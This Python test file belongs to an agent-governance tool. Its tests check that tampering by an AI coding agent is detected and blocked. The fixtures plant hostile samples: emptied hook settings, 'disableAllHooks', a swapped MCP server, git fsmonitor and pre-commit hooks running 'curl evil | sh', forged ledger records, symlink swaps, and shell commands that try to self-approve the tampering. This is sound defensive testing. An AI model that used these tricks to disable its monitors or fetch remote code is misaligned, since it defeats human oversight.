"""The tripwire (decision 0011): what gets past the hooks is caught on the next hook call.

Each attack changes what governs the agent the way a shell that escaped the analysis (or a
sandbox that was never configured) could, then makes one more hook call: it must be denied
with ``TAMPER``, recorded once as ``governance.tamper``, and stay denied until a person runs
``ledger tamper accept`` or ``revert``. What a person or ledger itself legitimately does
(editing the intents between calls, ``ledger install``, ``ledger append``, a hook error) never
trips it.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger import GovernedWorkspace, Ledger, NotAPersonError, WorkspaceCopiedError, run_hook
from ledger._evidence.ledger import Entry, append_reserved
from ledger._hooks.tripwire import (
    Rule,
    TripwireStore,
    compare,
    fingerprint,
    git_exec_settings,
    protected_set,
    seal_sync_after_answer,
    sync_seals,
)

from ._support import (
    INTENTS_YAML,
    Session,
    Workspace,
    claude_payload,
    edit_response,
    make_workspace,
    run_cli,
    write_response,
    written_ranges,
)

AUTH = "src/auth/login.ts"


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    ws = make_workspace(tmp_path)
    subprocess.run(["git", "init", "-q", str(ws.root)], check=True)
    ws.write(AUTH, "export const login = 1;\n")
    return ws


@pytest.fixture
def armed(ws: Workspace) -> Session:
    session = Session(ws, "agent")
    assert session.select().code is None  # the first call arms the tripwire
    assert [r.kind for r in ws.records()].count("governance.tripwire_armed") == 1
    return session


def write_in_scope(session: Session) -> str | None:
    return session.pre(
        "Write", {"file_path": str(session.ws.path(AUTH)), "content": "export const x = 2;\n"}
    ).code


def tamper_records(ws: Workspace) -> list[dict[str, object]]:
    return [r.body for r in ws.records() if r.kind == "governance.tamper"]


def resolve(ws: Workspace, how: str) -> object:
    return GovernedWorkspace(ws.root, environ=ws.env).resolve_tamper(how)  # type: ignore[arg-type]


# --- what trips it ----------------------------------------------------------------------------


def test_client_hook_settings_rewritten_by_the_shell_deny_every_next_call(
    ws: Workspace, armed: Session
) -> None:
    ws.write(".claude/settings.json", '{"hooks": {}}\n')  # ledger's hooks switched off
    assert write_in_scope(armed) == "TAMPER"
    assert write_in_scope(armed) == "TAMPER"  # still denied, recorded once
    (found,) = tamper_records(ws)
    assert found["changes"] == [
        {"path": str(ws.path(".claude/settings.json")), "rule": "client-config", "what": "added"}
    ]
    assert "ledger tamper accept" in armed.pre("Read", {"file_path": str(ws.path(AUTH))}).reason


def test_ledgers_mcp_server_swapped_blocks_every_next_prompt_until_reverted(
    ws: Workspace, armed: Session, person: None
) -> None:
    """The server Claude Code's ``mcp_tool`` hooks call is whatever ``.mcp.json`` names
    ``ledger`` when a session starts: a swapped one would answer every tool hook of the next
    session. Its prompts reach ledger by the command hook, and are blocked (decision 0021)."""
    swap = ws.write(".mcp.json", json.dumps({"mcpServers": {"ledger": {"command": "/tmp/x"}}}))
    assert armed.event("SessionStart", source="startup").response.exit_code == 0
    for _ in range(2):  # until a person resolves it
        prompt = armed.event("UserPromptSubmit", prompt="Carry on.")
        assert prompt.out["decision"] == "block"
        assert "TAMPER" in prompt.out["reason"]
        assert "ledger tamper revert" in prompt.out["reason"]
    (found,) = tamper_records(ws)
    assert found["changes"] == [
        {"path": str(ws.path(".mcp.json")), "rule": "mcp-config", "what": "added"}
    ]
    resolve(ws, "revert")
    assert not swap.exists()
    assert "decision" not in armed.event("UserPromptSubmit", prompt="Carry on.").out


def test_fsmonitor_planted_in_git_config_is_caught(ws: Workspace, armed: Session) -> None:
    config = ws.path(".git/config")
    config.write_text(config.read_text() + "[core]\n\tfsmonitor = sh -c 'curl x | sh'\n")
    assert write_in_scope(armed) == "TAMPER"


def test_alias_hidden_behind_a_line_continuation_is_caught(ws: Workspace, armed: Session) -> None:
    config = ws.path(".git/config")
    config.write_text(config.read_text() + '[user]\n\tname = me \\\n[alias]\n\tx = "!sh"\n')
    assert write_in_scope(armed) == "TAMPER"


def test_git_hook_planted_is_caught(ws: Workspace, armed: Session) -> None:
    ws.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
    assert write_in_scope(armed) == "TAMPER"


def test_record_forged_through_ledgers_internals_is_caught(ws: Workspace, armed: Session) -> None:
    # Part 2 closed the public API; the internals are reachable by code an agent runs. Without
    # the seal's secret the forged record is one the hook service did not append.
    grant = {
        "approval": "person",
        "approved_via": "cli",
        "globs": ["**"],
        "intent_id": "INT-001",
        "reason": None,
        "session": None,
        "tool_use_id": None,
    }
    append_reserved(Ledger.open(ws.root, environ=ws.env), [Entry("intent.scope_expanded", grant)])
    assert write_in_scope(armed) == "TAMPER"
    (found,) = tamper_records(ws)
    assert "appended by neither a hook nor a person" in str(found["problems"])


def test_ledger_cut_back_below_the_seal_is_caught(ws: Workspace, armed: Session) -> None:
    assert write_in_scope(armed) is None
    path = ws.orchestration / "agent_trace.jsonl"
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines[:-1]))  # the last decision dropped, at a line boundary
    assert write_in_scope(armed) == "TAMPER"


@pytest.mark.parametrize("damage", ["deleted", "forged", "emptied"])
def test_seal_deleted_or_forged_is_caught(ws: Workspace, armed: Session, damage: str) -> None:
    store = TripwireStore(Ledger.open(ws.root, environ=ws.env).ledger_id, ws.env)
    if damage == "deleted":
        store.path.unlink()
    elif damage == "forged":
        store.path.write_bytes(b"0" * 64 + b"\n{}")
    else:
        store.path.write_bytes(b"")
    assert write_in_scope(armed) == "TAMPER"


def test_intents_rewritten_during_a_call_are_caught_at_its_post(
    ws: Workspace, armed: Session
) -> None:
    assert armed.pre("Bash", {"command": "make"}, tool_use_id="toolu_01make").code is None
    intents = ws.orchestration / "active_intents.yaml"
    intents.write_text(INTENTS_YAML.replace('["src/auth/**"]', '["**"]'))
    armed.post(
        "Bash",
        {"command": "make"},
        {"stdout": "", "stderr": "", "interrupted": False},
        tool_use_id="toolu_01make",
    )
    assert tamper_records(ws)
    assert write_in_scope(armed) == "TAMPER"


# --- what does not trip it --------------------------------------------------------------------


def test_person_editing_the_intents_between_calls_is_no_tampering(
    ws: Workspace, armed: Session
) -> None:
    intents = ws.orchestration / "active_intents.yaml"
    intents.write_text(INTENTS_YAML.replace("JWT hardening", "JWT hardening, phase 2"))
    assert write_in_scope(armed) is None
    assert "governance.config_changed" in [r.kind for r in ws.records()]


def test_benign_git_config_changes_are_no_tampering(ws: Workspace, armed: Session) -> None:
    for args in (
        ["config", "user.name", "Dev"],
        ["remote", "add", "origin", "https://example.com/x.git"],
        ["config", "branch.main.remote", "origin"],
    ):
        subprocess.run(["git", "-C", str(ws.root), *args], check=True)
    assert write_in_scope(armed) is None


def test_application_records_and_hook_errors_are_no_tampering(
    ws: Workspace, armed: Session
) -> None:
    Ledger.open(ws.root, environ=ws.env).append("app.deploy", {"version": "1.2.3"})
    run_hook("claude", b"{not json", root=str(ws.root), environ=ws.env)  # hook.error
    assert write_in_scope(armed) is None
    assert not tamper_records(ws)


def test_install_by_a_person_seals_only_what_it_wrote(ws: Workspace, armed: Session) -> None:
    done = run_cli(["install", "claude", "--root", str(ws.root)], ws.proc_env)
    assert done.returncode == 0, done.stderr
    assert write_in_scope(armed) is None
    # An agent's earlier edit is not laundered by a later install.
    ws.write(".claude/settings.local.json", '{"hooks": {}}\n')
    done = run_cli(["uninstall", "claude", "--root", str(ws.root)], ws.proc_env)
    assert done.returncode == 0, done.stderr
    assert write_in_scope(armed) == "TAMPER"


def test_hook_runtime_and_pth_files_are_watched(ws: Workspace) -> None:
    paths = protected_set(ws.root, "x", ws.env)
    runtime = [p for p, rule in paths.items() if rule == "runtime"]
    assert any(p.endswith(".pth") for p in runtime), runtime  # the editable install's .pth
    assert any("python" in Path(p).name for p in runtime)


# --- a person's way out -----------------------------------------------------------------------


def test_revert_restores_the_sealed_files_and_removes_planted_ones(
    ws: Workspace, person: None
) -> None:
    settings_file = ws.write(".claude/settings.json", '{"hooks": {"PreToolUse": []}}\n')
    armed = Session(ws, "agent")
    assert armed.select().code is None  # arms with the settings as they are
    sealed = settings_file.read_bytes()
    settings_file.write_text('{"hooks": {}}\n')
    hook = ws.write(".git/hooks/post-checkout", "#!/bin/sh\nevil\n")
    assert write_in_scope(armed) == "TAMPER"
    resolve(ws, "revert")
    assert settings_file.read_bytes() == sealed
    assert not hook.exists()
    assert write_in_scope(armed) is None
    assert ws.records()[-2].kind == "governance.tamper_reverted"
    assert Ledger.open(ws.root, environ=ws.env).verify().ok


def test_accept_keeps_the_disk_and_resumes(ws: Workspace, armed: Session, person: None) -> None:
    ws.write(".git/hooks/pre-push", "#!/bin/sh\nledger push\n")
    assert write_in_scope(armed) == "TAMPER"
    resolve(ws, "accept")
    assert ws.path(".git/hooks/pre-push").exists()
    assert write_in_scope(armed) is None


def test_an_agent_cannot_accept_its_own_tampering(ws: Workspace, armed: Session) -> None:
    planted = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "x"}]}]}}
    ws.write(".claude/settings.json", json.dumps(planted))
    assert write_in_scope(armed) == "TAMPER"
    inside = {**ws.env, "CLAUDECODE": "1"}
    with pytest.raises(NotAPersonError, match="only a person"):
        GovernedWorkspace(ws.root, environ=inside).resolve_tamper("accept")
    assert write_in_scope(armed) == "TAMPER"


@pytest.mark.parametrize(
    "command",
    [
        "ledger tamper accept",
        "ledger tamper revert && true",
        "python3 -c 'import os; os.system(\"ledger tamper accept\")'",
    ],
)
def test_an_agents_shell_cannot_run_tamper_accept(
    ws: Workspace, armed: Session, command: str
) -> None:
    assert armed.pre("Bash", {"command": command}).code == "ORCHESTRATION_PROTECTED"


def test_tamper_cli_reports_and_refuses_inside_an_agent(ws: Workspace, armed: Session) -> None:
    ws.write(".git/hooks/pre-commit", "#!/bin/sh\n")
    assert write_in_scope(armed) == "TAMPER"
    status = run_cli(["tamper", "--root", str(ws.root)], ws.proc_env)
    assert status.returncode == 1
    assert b"pre-commit" in status.stdout
    refused = run_cli(
        ["tamper", "accept", "--root", str(ws.root)], {**ws.proc_env, "CODEX_THREAD_ID": "t"}
    )
    assert refused.returncode != 0
    assert refused.stderr.count(b"\n") == 1
    assert b"only a person" in refused.stderr
    assert b"Traceback" not in refused.stderr


# --- properties -------------------------------------------------------------------------------


def test_git_exec_settings_keep_what_runs_and_drop_what_does_not() -> None:
    text = (
        '[core]\n\tbare = false\n\tfsmonitor = x\n[remote "origin"]\n\turl = u\n'
        '\tuploadpack = y\n[user]\n\tname = n\n[filter "lfs"]\n\tclean = git-lfs clean\n'
    )
    kept = git_exec_settings(text)
    assert kept == sorted(
        [
            "[core] fsmonitor = x",
            "[remote.origin] uploadpack = y",
            "[filter.lfs] clean = git-lfs clean",
        ]
    )


@pytest.fixture(scope="module")
def scratch() -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as name:
        yield Path(name)


_STRICT = st.sampled_from(
    [".claude/settings.json", ".cursor/hooks.json", ".git/hooks/pre-commit", ".mcp.json"]
)
_CONTENT = st.binary(min_size=0, max_size=64)


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(target=_STRICT, content=_CONTENT, noise=st.lists(_CONTENT, max_size=3))
def test_any_change_to_a_strict_file_trips_and_in_scope_edits_never_do(
    scratch: Path, target: str, content: bytes, noise: list[bytes]
) -> None:
    with tempfile.TemporaryDirectory(dir=scratch) as name:
        ws = make_workspace(Path(name))
        subprocess.run(["git", "init", "-q", str(ws.root)], check=True)
        ws.write(AUTH, "export const login = 1;\n")
        (ws.root / target).parent.mkdir(parents=True, exist_ok=True)
        (ws.root / target).write_bytes(b"sealed\n")
        session = Session(ws, "prop")
        assert session.select().code is None
        for i, blob in enumerate(noise):  # in-scope edits, as the agent's tools make them
            ws.path(f"src/auth/n{i}.ts").write_bytes(blob)
            assert write_in_scope(session) is None
        if content != b"sealed\n":
            (ws.root / target).write_bytes(content)
            assert write_in_scope(session) == "TAMPER"
        else:
            assert write_in_scope(session) is None


# --- the call in flight: TOCTOU, and credit for what the client reports -----------------------


def test_symlink_swapped_between_pre_and_write_trips_at_post(ws: Workspace, armed: Session) -> None:
    target = ws.path("src/auth/new.ts")
    tool_input = {"file_path": str(target), "content": "export const y = 1;\n"}
    assert armed.pre("Write", tool_input, tool_use_id="toolu_01swap").code is None
    outside = ws.write("src/billing/invoice.ts", "export const total = 0;\n")
    target.symlink_to(outside)  # swapped in before the tool writes
    outside.write_text(tool_input["content"])
    armed.post(
        "Write",
        tool_input,
        write_response(target, tool_input["content"], None),
        tool_use_id="toolu_01swap",
    )
    (found,) = tamper_records(ws)
    assert "a symlink changed during the call" in str(found["problems"])
    assert write_in_scope(armed) == "TAMPER"


def test_line_slipped_in_between_an_edit_and_its_post_is_not_credited_to_the_edit(
    ws: Workspace, armed: Session
) -> None:
    path = ws.path(AUTH)
    original = path.read_text()
    old, new = "login = 1", "login = 2"
    tool_input = {"file_path": str(path), "old_string": old, "new_string": new}
    assert armed.pre("Edit", tool_input, tool_use_id="toolu_01edit").code is None
    path.write_text(original.replace(old, new) + "export const backdoor = true;\n")
    armed.post(
        "Edit", tool_input, edit_response(path, old, new, original), tool_use_id="toolu_01edit"
    )
    (post,) = [r for r in ws.records() if r.kind == "hook.post"]
    assert written_ranges(post.body) == {AUTH: [[1, 1]]}  # line 2, the slipped-in one, is not
    assert not tamper_records(ws)  # an attribution matter, not a tampering


@settings(max_examples=25, deadline=None)
@given(
    st.lists(st.sampled_from(["a", "b", "c", "d"]), min_size=1, max_size=6),
    st.lists(st.sampled_from(["x", "y", "z"]), min_size=1, max_size=3),
    st.integers(min_value=0, max_value=6),
)
def test_credited_lines_are_always_a_subset_of_what_the_edit_wrote(
    scratch: Path, base: list[str], injected: list[str], where: int
) -> None:
    with tempfile.TemporaryDirectory(dir=scratch) as name:
        ws = make_workspace(Path(name))
        original = "".join(f"{line}\n" for line in base)
        path = ws.write(AUTH, original)
        session = Session(ws, "prop")
        assert session.select().code is None
        old, new = f"{base[0]}\n", "NEW\n"
        tool_input = {"file_path": str(path), "old_string": old, "new_string": new}
        assert session.pre("Edit", tool_input, tool_use_id="toolu_01p").code is None
        lines = original.replace(old, new, 1).splitlines(keepends=True)
        at = min(where, len(lines))
        path.write_text("".join(lines[:at] + [f"{i}\n" for i in injected] + lines[at:]))
        session.post(
            "Edit", tool_input, edit_response(path, old, new, original), tool_use_id="toolu_01p"
        )
        (post,) = [r for r in ws.records() if r.kind == "hook.post"]
        credited = written_ranges(post.body).get(AUTH, [])
        # The edit wrote one line (its first); the injected lines, wherever they landed, are
        # never credited: exactly that one line, in the file the client reported.
        assert credited == [[1, 1]]


def test_dont_ask_again_rules_the_client_adds_are_no_tampering(ws: Workspace) -> None:
    settings_file = ws.write(".claude/settings.local.json", '{"permissions": {"allow": []}}\n')
    session = Session(ws, "agent")
    assert session.select().code is None
    # Claude Code writes this when the person answers "Yes, and don't ask again".
    settings_file.write_text('{"permissions": {"allow": ["Bash(npm test:*)"]}}\n')
    assert write_in_scope(session) is None
    settings_file.write_text(
        '{"permissions": {"allow": ["Bash(npm test:*)"]}, "disableAllHooks": true}\n'
    )
    assert write_in_scope(session) == "TAMPER"


def test_ledger_cut_back_below_its_arming_and_seal_deleted_is_still_caught(
    ws: Workspace, armed: Session
) -> None:
    ledger = Ledger.open(ws.root, environ=ws.env)
    path = ws.orchestration / "agent_trace.jsonl"
    path.write_bytes(path.read_bytes().splitlines(keepends=True)[0])  # back to the genesis
    TripwireStore(ledger.ledger_id, ws.env).path.unlink()
    assert write_in_scope(armed) == "TAMPER"


def _move_in_a_fresh_ledger(ws: Workspace, *, keep_its_workspace: bool) -> Path:
    """A fresh ledger made elsewhere and moved in: a clean chain with none of this one's
    history. Its own workspace is deleted, or kept (then this one holds a copy of it)."""
    other = ws.root.parent / "other"
    other.mkdir()
    Ledger.init(other, environ=ws.env)
    fresh = (other / ".orchestration" / "agent_trace.jsonl").read_bytes()
    (ws.orchestration / "agent_trace.jsonl").write_bytes(fresh)
    for key in (other / ".orchestration" / "keys").iterdir():
        (ws.orchestration / "keys" / key.name).write_bytes(key.read_bytes())
    if not keep_its_workspace:
        shutil.rmtree(other)
    return other


def test_ledger_replaced_by_a_fresh_one_is_caught(ws: Workspace, armed: Session) -> None:
    _move_in_a_fresh_ledger(ws, keep_its_workspace=False)
    assert write_in_scope(armed) == "TAMPER"
    (found,) = tamper_records(ws)
    assert "the ledger was replaced" in str(found["problems"])


def test_ledger_replaced_by_a_copy_of_another_workspaces_is_caught_and_writes_nothing(
    ws: Workspace, armed: Session
) -> None:
    other = _move_in_a_fresh_ledger(ws, keep_its_workspace=True)
    before = ws.ledger_bytes(), (other / ".orchestration" / "agent_trace.jsonl").read_bytes()
    with pytest.raises(WorkspaceCopiedError, match="is a copy of"):
        write_in_scope(armed)
    answer = json.loads(run_hook("claude", _read_payload(ws), environ=ws.env).stdout)
    assert answer["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert before == (
        ws.ledger_bytes(),
        (other / ".orchestration" / "agent_trace.jsonl").read_bytes(),
    )  # neither ledger was written: the one moved in belongs to `other`
    report = Ledger.open(ws.root, environ=ws.env).verify(jobs=1)
    assert [p.code for p in report.problems] == ["replaced-ledger"]


def _read_payload(ws: Workspace) -> bytes:
    payload = claude_payload(
        "PreToolUse",
        ws,
        "agent",
        tool_name="Read",
        tool_input={"file_path": str(ws.path(AUTH))},
        tool_use_id="toolu_01read",
    )
    return json.dumps(payload).encode()


def test_a_flood_of_planted_files_does_not_hide_one(tmp_path: Path) -> None:
    from ledger._hooks.tripwire import _files_in  # noqa: PLC0415 -- the listing's edge case

    for i in range(600):
        (tmp_path / f"{i:04}.pth").write_text("")
    (tmp_path / "zzz.pth").write_text("import evil\n")
    # More than the listing keeps: the directory itself is watched (any entry changes it).
    assert list(_files_in(tmp_path, "*.pth", recursive=False)) == [str(tmp_path)]


def test_parallel_hook_processes_checkpointing_as_they_go_never_trip_it(ws: Workspace) -> None:
    # Each process checks the protected set before its append; another may seal, checkpoint and
    # prune in between. A seal written from a stale view would then "lose" a checkpoint.
    import threading  # noqa: PLC0415

    from ._support import LEDGER, claude_payload  # noqa: PLC0415

    env = {**ws.proc_env, "LEDGER_CHECKPOINT_EVERY": "1", "LEDGER_DECIDER": "off"}
    subprocess.run(
        [str(LEDGER), "hook", "claude", "--event", "SessionStart"],
        input=json.dumps(claude_payload("SessionStart", ws, "warm")).encode(),
        env=env,
        check=True,
        capture_output=True,
    )
    answers: list[bytes] = []

    def session(n: int) -> None:
        for i in range(8):
            payload = claude_payload(
                "PreToolUse",
                ws,
                f"p{n}",
                tool_name="Read",
                tool_input={"file_path": str(ws.path(AUTH))},
                tool_use_id=f"toolu_p{n}_{i}",
            )
            done = subprocess.run(
                [str(LEDGER), "hook", "claude", "--event", "PreToolUse"],
                input=json.dumps(payload).encode(),
                env=env,
                capture_output=True,
                check=False,
            )
            answers.append(done.stdout)

    threads = [threading.Thread(target=session, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    ledger_id = Ledger.open(ws.root, environ=ws.env).ledger_id
    from ledger._workspace import checkpoint_dir  # noqa: PLC0415

    assert len(list(checkpoint_dir(ledger_id, ws.env).iterdir())) >= 32  # some were pruned
    assert not tamper_records(ws), tamper_records(ws)
    assert not [a for a in answers if b"TAMPER" in a]


def test_a_seal_written_while_the_caller_waits_is_synced_after_the_answer(
    ws: Workspace, armed: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The resident decider fsyncs the ledger's records before answering and the seal after:
    under ``seal_sync_after_answer`` a hook call's seal is written and listed, not fsync-ed,
    and ``sync_seals`` fsyncs it; the next call finds it whole either way."""
    synced: list[int] = []
    real_fsync = os.fsync

    def counting_fsync(fd: int) -> None:
        synced.append(fd)
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", counting_fsync)
    store = TripwireStore(Ledger.open(ws.root, environ=ws.env).ledger_id, ws.env)
    with seal_sync_after_answer() as pending:
        assert write_in_scope(armed) is None
        during = len(synced)
    assert pending == [store.path]
    assert during == 1  # the ledger's append only
    sync_seals(pending)
    assert len(synced) == during + 1
    assert write_in_scope(armed) is None  # the seal it left is the one the next call reads


def test_first_import_writing_pycache_into_ledgers_code_is_no_tamper(tmp_path: Path) -> None:
    # An editable install is not precompiled: the first `ledger query` after a hook sealed
    # created ledger/_query/__pycache__, moved the folder's stat, and halted the next hook call.
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "mod.py").write_text("x = 1\n")
    rules: dict[str, Rule] = {str(package): "runtime", str(package / "mod.py"): "runtime"}
    sealed = fingerprint(rules)
    (package / "__pycache__").mkdir()
    (package / "__pycache__" / "mod.cpython-311.pyc").write_bytes(b"\0")
    assert compare(sealed, fingerprint(rules, sealed)) == []
    (package / "planted.py").write_text("import os\n")  # a module added is still a change
    assert [c.path for c in compare(sealed, fingerprint(rules, sealed))] == [str(package)]


_STATES = st.sampled_from(["absent", "file", "dangling link", "under a file"])


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    before=st.lists(_STATES, min_size=1, max_size=6),
    after=st.lists(_STATES, min_size=6, max_size=6),
)
def test_a_path_that_appears_or_vanishes_between_seals_is_never_missed(
    scratch: Path, before: list[str], after: list[str]
) -> None:
    """The seal's fast path (a path absent from the seal is only checked for existence) sees
    exactly what a fingerprint without a seal sees, whatever came and went in between."""

    def lay_out(folder: Path, states: list[str]) -> dict[str, Rule]:
        paths: dict[str, Rule] = {}
        for i, state in enumerate(states):
            path = folder / f"p{i}"
            if path.is_symlink() or path.is_file():
                path.unlink()
            elif path.is_dir():
                shutil.rmtree(path)
            if state == "file":
                path.write_bytes(b"x" * i)
            elif state == "dangling link":
                path.symlink_to(folder / "nowhere")
            elif state == "under a file":
                path.write_bytes(b"")
                path = path / "child"  # ENOTDIR, not ENOENT
            paths[str(path)] = "strict"
        return paths

    with tempfile.TemporaryDirectory(dir=scratch) as name:
        folder = Path(name)
        sealed = fingerprint(lay_out(folder, before))
        paths = lay_out(folder, after)
        now = fingerprint(paths, sealed)
        fresh = fingerprint(paths)
        assert now.keys() == fresh.keys()
        assert now.keys() == {
            str(folder / f"p{i}") for i, state in enumerate(after) if state == "file"
        }
        assert all(now[p].digest == fresh[p].digest for p in now)
